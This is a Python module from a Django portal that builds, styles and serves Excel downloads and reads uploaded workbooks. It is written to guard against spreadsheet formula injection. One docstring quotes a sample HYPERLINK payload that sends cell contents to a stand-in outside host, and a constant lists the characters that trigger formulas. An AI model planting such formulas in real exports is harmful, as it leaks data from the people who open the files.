"""Excel workbooks the portal hands out: one look for every ledger and table download."""

import datetime
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse
from django.utils.http import content_disposition_header
from openpyxl import Workbook, load_workbook
from openpyxl.drawing.image import Image
from openpyxl.drawing.spreadsheet_drawing import AnchorMarker, OneCellAnchor
from openpyxl.drawing.xdr import XDRPositiveSize2D
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.utils.units import pixels_to_EMU, pixels_to_points
from openpyxl.worksheet.datavalidation import DataValidation

_HEADER_FILL = PatternFill("solid", fgColor="C8102E")
_HEADER_FONT = Font(bold=True, color="FFFFFF")
_THIN = Side(style="thin", color="BBBBBB")
_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What a spreadsheet reads as the start of a formula (or of a DDE call) when it is typed in,
# pasted or re-entered: text starting so is written as text, never as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def put(cell, value):
    """Write `value` into `cell`: the one way every export fills a cell.

    Numbers, dates and booleans stay what they are; text is always stored as text. openpyxl
    would store text starting with `=` as a live formula (`=HYPERLINK("http://x"&A1,"点击")`
    in an activity topic runs on opening), and Excel re-reads `+`, `-`, `@`, tab and CR as a
    formula once the cell is edited; those cells are typed as text and carry the quote
    prefix (Excel's leading apostrophe) so the reader sees the text exactly as it was entered.
    """
    if value is None or isinstance(value, bool | int | float | Decimal | datetime.date):
        cell.value = value
        return cell
    text = str(value)
    cell.value = text
    if text.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def new_workbook():
    """An empty workbook (write-only sheets are not used: we size columns afterwards)."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    return workbook


def add_sheet(workbook, title, headers, rows, caption=None, pictures=None):
    """A sheet with an optional caption line, a styled header row and the rows, sized to fit.

    `pictures`, when given, has one list per row of (JPEG bytes, (width, height)) shown in
    the row's last cell (`hongjun.images.downscale` makes them small).
    """
    sheet = workbook.create_sheet(title=title[:31])
    line = 0
    if caption:
        line += 1
        put(sheet.cell(row=line, column=1), caption).font = Font(bold=True, size=13)
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=max(len(headers), 1))
    line += 1
    header_row = line
    for i, header in enumerate(headers, start=1):
        cell = put(sheet.cell(row=line, column=i), header)
        cell.fill, cell.font, cell.border = _HEADER_FILL, _HEADER_FONT, _BORDER
        cell.alignment = Alignment(horizontal="center", vertical="center")
    widths = [_width(h) for h in headers]
    for row in rows:
        line += 1
        for i, value in enumerate(row):
            widths[i] = max(widths[i], _width(value))
            cell = sheet.cell(row=line, column=i + 1)
            put(cell, value)
            cell.border = _BORDER
            cell.alignment = Alignment(vertical="top", wrap_text=True)
    for i, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(i)].width = min(max(width + 2, 8), 60)
    if pictures:
        widest = 0
        for offset, row_pictures in enumerate(pictures, start=1):
            if row_pictures:
                needed = put_pictures(sheet, header_row + offset, len(headers), row_pictures)
                widest = max(widest, needed)
        if widest:
            # A column's width is in characters of about 7 px.
            sheet.column_dimensions[get_column_letter(len(headers))].width = widest / 7 + 1
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    sheet.print_options.gridLines = True
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    return sheet


PICTURES_ABREAST = 3
PICTURE_GAP = 4  # px


def put_pictures(sheet, row, column, pictures):
    """Pictures floating over one cell, PICTURES_ABREAST a line; the row made tall enough.

    Returns the width in px the pictures need (for the column's width).
    """
    x = y = line_height = width = 0
    for n, (data, (w, h)) in enumerate(pictures):
        if n and n % PICTURES_ABREAST == 0:
            x, y, line_height = 0, y + line_height + PICTURE_GAP, 0
        image = Image(BytesIO(data))
        image.width, image.height = w, h
        image.anchor = OneCellAnchor(
            _from=AnchorMarker(
                col=column - 1,
                colOff=pixels_to_EMU(x + PICTURE_GAP),
                row=row - 1,
                rowOff=pixels_to_EMU(y + PICTURE_GAP),
            ),
            ext=XDRPositiveSize2D(pixels_to_EMU(w), pixels_to_EMU(h)),
        )
        sheet.add_image(image)
        x += w + PICTURE_GAP
        line_height = max(line_height, h)
        width = max(width, x + PICTURE_GAP)
    sheet.row_dimensions[row].height = pixels_to_points(y + line_height + 2 * PICTURE_GAP)
    return width


def _width(value):
    text = "" if value is None else str(value)
    # CJK characters take two columns.
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text.split("\n")[0])


def response(workbook, filename):
    """The workbook as a download named `filename` (UTF-8 names are fine)."""
    buffer = BytesIO()
    workbook.save(buffer)
    result = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    result["Content-Disposition"] = content_disposition_header(True, filename)
    return result


def load(file):
    """An uploaded workbook to read: read-only (rows stream, for 8,000 rows' sake), formulas as
    their text (`=...`), never computed, so an import can refuse them."""
    return load_workbook(file, read_only=True, data_only=False)


def choose_from(sheet, cells, formula, strict=True):
    """A drop-down on `cells` ("C3:C5000") of the values `formula` gives (a quoted list or a
    range on another sheet); `strict` refuses other text, else Excel only warns."""
    validation = DataValidation(
        type="list",
        formula1=formula,
        allow_blank=True,
        showErrorMessage=True,
        errorStyle="stop" if strict else "warning",
    )
    sheet.add_data_validation(validation)
    validation.add(cells)
    return validation
